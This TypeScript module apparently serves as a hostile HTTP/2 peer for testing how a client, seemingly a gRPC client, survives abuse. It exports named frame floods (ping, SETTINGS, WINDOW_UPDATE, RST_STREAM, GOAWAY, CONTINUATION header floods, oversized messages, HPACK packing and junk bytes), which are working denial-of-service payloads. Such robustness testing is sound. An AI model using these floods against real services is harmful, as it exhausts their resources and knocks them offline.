import type { Socket } from 'node:net';
import { flood } from './flood.ts';

type Attack = (socket: Socket) => void;

const FRAME = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7, window: 8, continuation: 9 } as const;

const frame = (type: keyof typeof FRAME, flags: number, stream: number, body: Buffer = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head[3] = FRAME[type];
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
};

const SETTINGS = frame('settings', 0, 0);

/** `:status 200`, from the static table. */
const STATUS = Buffer.from([0x88]);
/** `content-type: application/grpc`, not kept. */
const GRPC = Buffer.concat([Buffer.from([0x0f, 0x10, 16]), Buffer.from('application/grpc')]);
const ANSWER = frame('headers', 4, 1, Buffer.concat([STATUS, GRPC]));

/** Shakes hands; goes on when the call came, a moment later. */
const called = (then: Attack): Attack => socket => {
  socket.once('data', () => {
    socket.write(Buffer.concat([SETTINGS, frame('settings', 1, 0)]));
    setTimeout(() => then(socket), 100);
  });
};

const endless = (bytes: Buffer): Attack => called(socket => flood(socket, bytes));

const LITERAL = Buffer.concat([Buffer.from([0x00, 7]), Buffer.from('x-heade'), Buffer.from([100]), Buffer.alloc(100, 'v')]);

export const HTTP2: Readonly<Record<string, Attack>> = {
  'pings without end': endless(frame('ping', 0, 0, Buffer.alloc(8))),
  'settings without end': endless(SETTINGS),
  'large settings without end': endless(frame('settings', 0, 0, Buffer.alloc(6 * 1_000, 1))),
  'windows without end': endless(frame('window', 0, 0, Buffer.from([0, 0, 0, 1]))),
  'empty data without end': called(socket => { socket.write(ANSWER); flood(socket, frame('data', 0, 1)); }),
  'a message without end': called(socket => { socket.write(ANSWER); socket.write(frame('data', 0, 1, Buffer.from([0, 0x7f, 0xff, 0xff, 0xff]))); flood(socket, frame('data', 0, 1, Buffer.alloc(16_000, 'x'))); }),
  'messages without end': called(socket => { socket.write(ANSWER); flood(socket, frame('data', 0, 1, Buffer.alloc(5))); }),
  'headers without end': called(socket => { socket.write(frame('headers', 0, 1, STATUS)); flood(socket, frame('continuation', 0, 1, LITERAL)); }),
  'empty continuations without end': called(socket => { socket.write(frame('headers', 0, 1, STATUS)); flood(socket, frame('continuation', 0, 1)); }),
  'resets without end': endless(frame('reset', 0, 1, Buffer.alloc(4))),
  'goodbyes without end': endless(frame('goaway', 0, 0, Buffer.alloc(8))),
  'frames of nobody': endless(Buffer.from([0, 0, 8, 0xee, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8])),
  'a packed header': called(socket => { const table = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xe1, 0x1e]), Buffer.alloc(4_000, 'v')]); socket.write(frame('headers', 0, 1, Buffer.concat([STATUS, table]))); flood(socket, frame('continuation', 0, 1, Buffer.alloc(16_000, 0xbe))); }),
  'nothing': () => {},
  'rubbish': socket => flood(socket, Buffer.alloc(65_536, 0xa5)),
};
